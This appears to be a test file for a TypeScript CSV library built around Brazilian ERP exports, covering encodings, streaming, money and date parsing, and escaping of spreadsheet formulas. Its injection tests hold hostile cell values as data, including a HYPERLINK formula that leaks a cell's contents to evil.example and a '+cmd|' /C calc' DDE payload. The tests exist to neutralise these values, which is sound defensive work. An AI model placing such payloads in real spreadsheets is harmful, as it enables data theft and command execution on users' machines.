import {
  CsvFormatError,
  csvLine,
  parseBrazilianDate,
  parseBrazilianMoney,
  readCsvRows,
} from './csv'
import type { CsvRow } from './csv'

/** Feeds bytes in small chunks, as a network upload would, to exercise chunk boundaries. */
async function* chunked(bytes: Uint8Array, size = 7): AsyncGenerator<Uint8Array> {
  for (let i = 0; i < bytes.length; i += size) yield bytes.subarray(i, i + size)
}

async function rows(bytes: Uint8Array, size?: number): Promise<CsvRow[]> {
  const out: CsvRow[] = []
  for await (const row of readCsvRows(chunked(bytes, size)))
    out.push({ line: row.line, fields: row.fields })
  return out
}

const utf8 = (text: string) => new TextEncoder().encode(text)
function win1252(text: string): Uint8Array {
  // Latin-1 covers the accents used here; Windows-1252 agrees with it on them.
  return Uint8Array.from([...text].map((char) => char.charCodeAt(0)))
}

describe('reading CSV as Brazilian ERPs export it', () => {
  const expected = [
    { line: 1, fields: ['cnpj', 'razão social', 'cidade'] },
    { line: 2, fields: ['11.222.333/0001-81', 'Construção São José', 'São Paulo'] },
  ]

  it('reads UTF-8 with ; separators', async () => {
    expect(
      await rows(
        utf8('cnpj;razão social;cidade\n11.222.333/0001-81;Construção São José;São Paulo\n'),
      ),
    ).toEqual(expected)
  })

  it('reads UTF-8 with a BOM and CRLF line ends', async () => {
    const bom = new Uint8Array([0xef, 0xbb, 0xbf])
    const body = utf8(
      'cnpj;razão social;cidade\r\n11.222.333/0001-81;Construção São José;São Paulo\r\n',
    )
    expect(await rows(new Uint8Array([...bom, ...body]), 3)).toEqual(expected)
  })

  it('reads Windows-1252 as Excel saves it', async () => {
    expect(
      await rows(
        win1252('cnpj;razão social;cidade\r\n11.222.333/0001-81;Construção São José;São Paulo\r\n'),
      ),
    ).toEqual(expected)
  })

  it('reads , separators with quoted fields, escaped quotes and line breaks inside quotes', async () => {
    const text =
      'sku,nome,preco\n"CIM-1","Cimento ""Forte"", 50 kg","1.234,56"\nARG-2,"Linha 1\nLinha 2",9,90\n'
    expect(await rows(utf8(text), 5)).toEqual([
      { line: 1, fields: ['sku', 'nome', 'preco'] },
      { line: 2, fields: ['CIM-1', 'Cimento "Forte", 50 kg', '1.234,56'] },
      { line: 3, fields: ['ARG-2', 'Linha 1\nLinha 2', '9', '90'] },
    ])
  })

  it('reads tab-separated text pasted from a spreadsheet and skips blank lines', async () => {
    expect(await rows(utf8('a\tb\n\n1\t2\n'))).toEqual([
      { line: 1, fields: ['a', 'b'] },
      { line: 3, fields: ['1', '2'] },
    ])
  })

  it('refuses an empty file, binary garbage and an unterminated quote', async () => {
    await expect(rows(new Uint8Array())).rejects.toThrow(new CsvFormatError('EMPTY'))
    const garbage = Uint8Array.from({ length: 4096 }, (_, i) => (i * 7919) % 256)
    await expect(rows(garbage)).rejects.toThrow(new CsvFormatError('BINARY'))
    await expect(rows(utf8('a;b\n"open;2\n'))).rejects.toThrow(
      new CsvFormatError('UNTERMINATED_QUOTE'),
    )
  })

  it('streams a large file without reading it whole', async () => {
    const header = 'cnpj;pedido;data;sku;quantidade;preco\n'
    async function* generate() {
      yield utf8(header)
      for (let i = 0; i < 50_000; i += 1000) {
        let block = ''
        for (let j = i; j < i + 1000; j++)
          block += `11222333000181;${j};01/02/2026;SKU-${j % 50};${(j % 9) + 1};1.234,5${j % 10}\n`
        yield utf8(block)
      }
    }
    let count = 0
    let last: CsvRow | undefined
    for await (const row of readCsvRows(generate())) {
      count++
      last = row
    }
    expect(count).toBe(50_001)
    expect(last?.line).toBe(50_001)
    expect(last?.fields[1]).toBe('49999')
  })
})

describe('Brazilian numbers and dates', () => {
  it.each([
    ['1.234,56', 123_456],
    ['R$ 1.234,56', 123_456],
    ['1234,5', 123_450],
    ['12,00', 1200],
    ['1234.56', 123_456],
    ['1.234', 123_400],
    ['0,01', 1],
    ['-5,00', -500],
  ])('reads %s as %s cents', (input, cents) => {
    expect(parseBrazilianMoney(input)).toBe(cents)
  })

  it.each(['', 'abc', '1,2,3', '12.34,5.6', '1.23,45'])('refuses "%s" as money', (input) => {
    expect(parseBrazilianMoney(input)).toBeNull()
  })

  it('reads dd/mm/yyyy and ISO dates as the start of the day in Brasília, refusing impossible ones', () => {
    expect(parseBrazilianDate('31/01/2026')?.toISOString()).toBe('2026-01-31T03:00:00.000Z')
    expect(parseBrazilianDate('2026-01-31')?.toISOString()).toBe('2026-01-31T03:00:00.000Z')
    expect(parseBrazilianDate('5/3/2026')?.toISOString()).toBe('2026-03-05T03:00:00.000Z')
    expect(parseBrazilianDate('31/02/2026')).toBeNull()
    expect(parseBrazilianDate('2026/01/31')).toBeNull()
    expect(parseBrazilianDate('01/13/2026')).toBeNull()
  })
})

describe('writing CSV', () => {
  it('quotes what needs quoting, with ; separators and CRLF', () => {
    expect(csvLine(['a', 'b;c', 'd"e', 3, null])).toBe('a;"b;c";"d""e";3;\r\n')
  })
})

describe('writing CSV that a spreadsheet opens safely', () => {
  it.each([
    [
      '=HYPERLINK("http://evil.example/?x="&A1,"Clique")',
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Clique"")"`,
    ],
    ["+cmd|' /C calc'!A0", `"'+cmd|' /C calc'!A0"`],
    ['@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
    ['-2+3+cmd', `"'-2+3+cmd"`],
    ['\t=1+1', `"'\t=1+1"`],
    ['\r=1+1', `"'\r=1+1"`],
    ['=1', `"'=1"`],
    ['-', `"'-"`],
  ])('turns the formula %j into text', (value, cell) => {
    expect(csvLine([value])).toBe(`${cell}\r\n`)
  })

  it('leaves numbers alone, negative ones included, in either notation', () => {
    expect(csvLine([-3, -12.5, '-12,50', '-3', '1.234,56', '-1.234,56', '0,5', 42])).toBe(
      '-3;-12.5;-12,50;-3;1.234,56;-1.234,56;0,5;42\r\n',
    )
  })

  it('quotes text with a comma or tab, so a comma-reading spreadsheet cannot start a cell inside it', () => {
    expect(csvLine(['Loja,=HYPERLINK("x")', 'a\tb', 'Casa & Cia', '2026-01-31'])).toBe(
      '"Loja,=HYPERLINK(""x"")";"a\tb";Casa & Cia;2026-01-31\r\n',
    )
  })
})

describe('reading CSV through the streaming parser', () => {
  it('numbers each row by the line it starts on, with CR, LF and CRLF mixed and line breaks inside quotes', async () => {
    const text = 'a;b\r1;"x\r\ny"\n2;"p\rq\nr"\r\n\r\n3;w'
    for (const size of [1, 2, 3, 64])
      expect(await rows(utf8(text), size)).toEqual([
        { line: 1, fields: ['a', 'b'] },
        { line: 2, fields: ['1', 'x\r\ny'] },
        { line: 4, fields: ['2', 'p\rq\nr'] },
        { line: 8, fields: ['3', 'w'] },
      ])
  })

  it('reads accents split across chunks one byte at a time, in UTF-8 and Windows-1252', async () => {
    const text = 'nome;cidade\r\n"Açúcar ""União""";São João d’Aliança\r\n'
    const expected = [
      { line: 1, fields: ['nome', 'cidade'] },
      { line: 2, fields: ['Açúcar "União"', 'São João d’Aliança'] },
    ]
    expect(await rows(utf8(text), 1)).toEqual(expected)
    // Windows-1252 writes ’ as 0x92.
    const bytes = Uint8Array.from([...text].map((c) => (c === '’' ? 0x92 : c.charCodeAt(0))))
    expect(await rows(bytes, 1)).toEqual(expected)
  })

  it('keeps a quote inside an unquoted field as text, and rows of any length', async () => {
    expect(await rows(utf8('sku;nome\nTUB-1;Tubo 3/4" PVC\nTUB-2\nTUB-3;a;b\n'))).toEqual([
      { line: 1, fields: ['sku', 'nome'] },
      { line: 2, fields: ['TUB-1', 'Tubo 3/4" PVC'] },
      { line: 3, fields: ['TUB-2'] },
      { line: 4, fields: ['TUB-3', 'a', 'b'] },
    ])
  })

  it('reads a formula in a cell as plain text', async () => {
    expect(await rows(utf8('nome;cidade\n"=HYPERLINK(""http://x"",""y"")";@SUM(A1)\n'))).toEqual([
      { line: 1, fields: ['nome', 'cidade'] },
      { line: 2, fields: ['=HYPERLINK("http://x","y")', '@SUM(A1)'] },
    ])
  })

  it('calls a file of only a BOM or only blank lines empty', async () => {
    await expect(rows(new Uint8Array([0xef, 0xbb, 0xbf]))).rejects.toThrow(
      new CsvFormatError('EMPTY'),
    )
    await expect(rows(utf8('\r\n\n\r\n'))).rejects.toThrow(new CsvFormatError('EMPTY'))
  })

  it('refuses UTF-16 text and invalid UTF-8 found after the first 64 kB as a wrong encoding', async () => {
    const utf16 = new Uint8Array([
      0xff,
      0xfe,
      ...[...'a;b\r\n'].flatMap((c) => [c.charCodeAt(0), 0]),
    ])
    await expect(rows(utf16)).rejects.toThrow(new CsvFormatError('ENCODING'))
    const late = new Uint8Array([...utf8(`a;b\n${'ção;1\n'.repeat(20_000)}`), 0xc3, 0x28, 0x0a])
    await expect(rows(late, 4096)).rejects.toThrow(new CsvFormatError('ENCODING'))
  })

  it('stops at a quote left open once the row passes 1 MB, without reading the rest of the file', async () => {
    let chunksRead = 0
    async function* endless() {
      yield utf8('a;b\n1;"open\n')
      for (; chunksRead < 200; chunksRead++) yield utf8('x'.repeat(65_536))
    }
    const read = async () => {
      for await (const row of readCsvRows(endless())) void row
    }
    await expect(read()).rejects.toThrow(new CsvFormatError('LINE_TOO_LONG'))
    expect(chunksRead).toBeLessThan(40)
  })

  it('releases the source when the reader is stopped after the header', async () => {
    let released = false
    async function* source() {
      try {
        yield utf8('a;b\n')
        for (let i = 0; i < 1000; i++) yield utf8(`${i};x\n`.repeat(100))
      } finally {
        released = true
      }
    }
    for await (const row of readCsvRows(source())) if (row.line === 1) break
    await vi.waitFor(() => expect(released).toBe(true))
  })
})

describe('writing CSV that a comma- or tab-splitting spreadsheet opens safely', () => {
  it('puts a quote wherever such a spreadsheet would start a formula inside a cell after the first', () => {
    expect(csvLine(['a', 'x,=1+1,y', 'l1\n@SUM(A1)', 'p\t+1', 'q\r\n-2+cmd', 'Loja,\t=1'])).toBe(
      `a;"x,'=1+1,y";"l1\n'@SUM(A1)";"p\t'+1";"q\r\n'-2+cmd";"Loja,'\t'=1"\r\n`,
    )
  })

  it('leaves numbers after a comma alone, and the first cell of a line as it was', () => {
    expect(csvLine(['x,=1+1', 'Rua 7,-12', '1,-2,50'])).toBe(`"x,=1+1";"Rua 7,-12";"1,-2,50"\r\n`)
  })

  it('never lets a comma or tab reader see a cell starting with a formula character', () => {
    const hostile = ['=1+1', '+1', '-1+1', '@A1', '\t=1', '\r=1']
    const values = [
      'x',
      ...hostile.flatMap((h) => [h, `a,${h}`, `a\t${h}`, `a\n${h}`, `a\r\n${h}`]),
    ]
    const text = csvLine(values)
    for (const separator of [',', '\t']) {
      // Excel's reading: a quote is special only at the start of a cell.
      const cells = text.split(/\r\n|\n|\r/).flatMap((line) => splitLikeExcel(line, separator))
      expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([])
    }
  })
})

/** Splits one line as a spreadsheet reading `separator`-separated values would. */
function splitLikeExcel(line: string, separator: string): string[] {
  const cells: string[] = []
  let i = 0
  while (i <= line.length) {
    let cell = ''
    if (line[i] === '"') {
      i++
      while (i < line.length && !(line[i] === '"' && line[i + 1] !== '"')) {
        cell += line[i] === '"' ? '"' : line[i]
        i += line[i] === '"' ? 2 : 1
      }
      i++
    }
    while (i < line.length && line[i] !== separator) cell += line[i++]
    cells.push(cell)
    i++
  }
  return cells
}
